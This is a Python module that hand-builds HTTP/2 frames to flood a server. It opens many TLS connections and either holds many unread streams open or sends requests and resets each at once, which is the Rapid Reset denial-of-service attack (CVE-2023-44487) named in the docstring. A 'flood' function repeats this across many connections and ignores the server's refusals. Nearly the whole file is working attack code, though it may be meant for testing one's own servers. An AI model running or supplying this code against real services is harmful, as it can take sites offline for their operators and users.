"""HTTP/2 by hand, for a client that does not behave: many streams, held open or reset at once.

The source of this module runs on a machine, so it needs the standard library only. Frames:
RFC 9113, section 4.1; header fields that are not compressed: RFC 7541, section 6.2.2.
"""

from __future__ import annotations

import contextlib
import socket
import ssl
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING = 0, 1, 3, 4, 6
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return a frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(text: bytes) -> bytes:
    """Return a string after its length (RFC 7541, sections 5.1 and 5.2)."""
    if len(text) < 127:
        return bytes([len(text)]) + text
    size, left = b"\x7f", len(text) - 127
    while left >= 128:
        size, left = size + bytes([left % 128 + 128]), left // 128
    return size + bytes([left]) + text


def request(
    stream: int,
    host: str,
    path: str,
    *,
    method: str = "GET",
    end: int = END_STREAM,
    headers: tuple[tuple[str, str], ...] = (),
) -> bytes:
    """Return the frame of a request; 0 as its `end`: a body follows."""
    fields = ((":method", method), (":scheme", "https"), (":authority", host), (":path", path))
    block = b"".join(
        b"\0" + literal(name.encode()) + literal(value.encode())
        for name, value in (*fields, *headers)
    )
    return frame(HEADERS, end | END_HEADERS, stream, block)


def connect(address: str, ca: str, name: str) -> ssl.SSLSocket:
    """Return a connection that speaks HTTP/2, after the client's preface."""
    context = ssl.create_default_context(cadata=ca)
    context.set_alpn_protocols(["h2"])
    plain = socket.create_connection((address, 443), 10)
    connection = context.wrap_socket(plain, server_hostname=name)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
    return connection


def hold(connection: ssl.SSLSocket, host: str, path: str, streams: int) -> None:
    """Ask for a page on many streams and read no answer."""
    connection.sendall(b"".join(request(1 + 2 * n, host, path) for n in range(streams)))


def reset(connection: ssl.SSLSocket, host: str, path: str, streams: int) -> None:
    """Ask for a page on many streams and cancel each at once (CVE-2023-44487)."""
    for first in range(0, streams, 50):
        numbers = [1 + 2 * n for n in range(first, min(first + 50, streams))]
        cancel = struct.pack(">I", CANCEL)
        connection.sendall(
            b"".join(
                request(number, host, path) + frame(RST_STREAM, 0, number, cancel)
                for number in numbers
            )
        )


def flood(
    address: str, ca: str, host: str, path: str, *, connections: int, streams: int, cancel: bool
) -> list[ssl.SSLSocket]:
    """Open connections with many streams each; return those that the server has let in."""
    opened = []
    for _ in range(connections):
        with contextlib.suppress(OSError):  # the server refuses, or closes, what is too much
            connection = connect(address, ca, host)
            opened.append(connection)
            (reset if cancel else hold)(connection, host, path, streams)
    return opened
